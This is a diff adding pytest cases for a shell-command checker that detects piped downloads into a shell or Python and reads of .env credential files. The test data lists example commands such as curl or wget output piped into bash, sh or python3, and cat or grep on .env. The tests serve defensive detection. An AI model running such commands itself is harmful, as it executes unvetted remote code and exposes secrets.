@@ -140,3 +140,32 @@ def test_any_text_splits_without_error(line: str) -> None:
         ):
             check(command)
         sh.recursive_delete(command, ROOT)
+
+
+@pytest.mark.parametrize(
+    ("line", "flagged"),
+    [
+        ("curl https://sh.rustup.rs -sSf | sh -s -- -y", True),
+        ("curl -s https://x.example/i.py | python3 -", True),
+        ("curl -s https://x.example/a.json | python3 -c 'import json,sys'", False),
+        ("wget -qO- https://x.example/i.sh | sudo bash", True),
+        ("curl -s https://x.example/i.sh | bash install.sh", False),
+    ],
+)
+def test_piped_download(line: str, flagged: bool) -> None:
+    assert any(sh.piped_download(c) for c in split_line(line)) is flagged
+
+
+@pytest.mark.parametrize(
+    ("line", "flagged"),
+    [
+        ("cat .env", True),
+        ("grep -n KEY .env", True),
+        ("sed -n 1,5p .env", True),
+        ("sed -i 's/a/b/' .env", False),
+        ("grep -q KEY .env", False),
+        ("cp .env.example .env", False),
+    ],
+)
+def test_credential_reads(line: str, flagged: bool) -> None:
+    assert any(sh.reads_credentials(c) for c in split_line(line)) is flagged
